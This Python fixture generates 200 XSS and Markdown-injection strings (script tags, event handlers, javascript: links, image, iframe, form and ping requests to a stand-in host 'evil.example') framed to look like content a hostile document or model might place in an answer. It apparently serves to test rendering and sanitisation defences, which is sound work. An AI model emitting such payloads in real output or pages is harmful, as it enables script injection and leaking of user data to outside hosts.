"""What a hostile document or model may put into an answer, a title, a heading or a quote: 200 of them."""

from itertools import cycle, islice, product

ELSEWHERE = "http://evil.example:9/x"
HTML = (
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
    f"<iframe src='{ELSEWHERE}'></iframe>", f"<img src='{ELSEWHERE}'>", f"<link rel=stylesheet href='{ELSEWHERE}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<form action='{ELSEWHERE}'><input name=q autofocus></form>",
    f"<a href='{ELSEWHERE}' ping='{ELSEWHERE}'>here</a>", "<a href='javascript:window.pwned=1'>here</a>",
    f"<object data='{ELSEWHERE}'></object>",
    f"<embed src='{ELSEWHERE}'>", f"<video src='{ELSEWHERE}' autoplay></video>",
    f"<base href='{ELSEWHERE}'>", "<details open ontoggle=window.pwned=1>",
    "<style>@import 'http://evil.example:9/x'</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "<!--><img src=x onerror=window.pwned=1>-->",
)  # fmt: skip
MARKDOWN = (
    f"![a picture]({ELSEWHERE})", f"[a link]({ELSEWHERE})", "[click](javascript:window.pwned=1)",
    f"[1]: {ELSEWHERE}\n\nSee [1]", f"![][1]\n\n[1]: {ELSEWHERE}", f"<{ELSEWHERE}>", ELSEWHERE, "www.evil.example",
    "[x](data:text/html,<script>window.pwned=1</script>)", f"[![x]({ELSEWHERE})]({ELSEWHERE})",
    "`<img src=x onerror=window.pwned=1>`", "```html\n<script>window.pwned=1</script>\n```",
    f"| a |\n| --- |\n| <img src='{ELSEWHERE}'> ![x]({ELSEWHERE}) |",
    f"> [x]({ELSEWHERE})", f"# <img src='{ELSEWHERE}'>",
    f"1. <img src='{ELSEWHERE}'>\n   - ![x]({ELSEWHERE})", "[\u202ex](vbscript:window.pwned=1)", f"[x](\t{ELSEWHERE})",
    f"[x]({ELSEWHERE} \"' onmouseover=window.pwned=1\")", "[x](JaVaScRiPt&colon;window.pwned=1)",
)  # fmt: skip
FRAMES = ("{}", "Text before. {} Text after.", "**{}**", "- {}", "\u200b{}\u202e")


def poisons(wanted: int = 200) -> list[str]:
    """As many different ones."""
    made = [frame.format(payload) for frame, payload in product(FRAMES, HTML + MARKDOWN)]
    return list(islice(cycle(made), wanted))
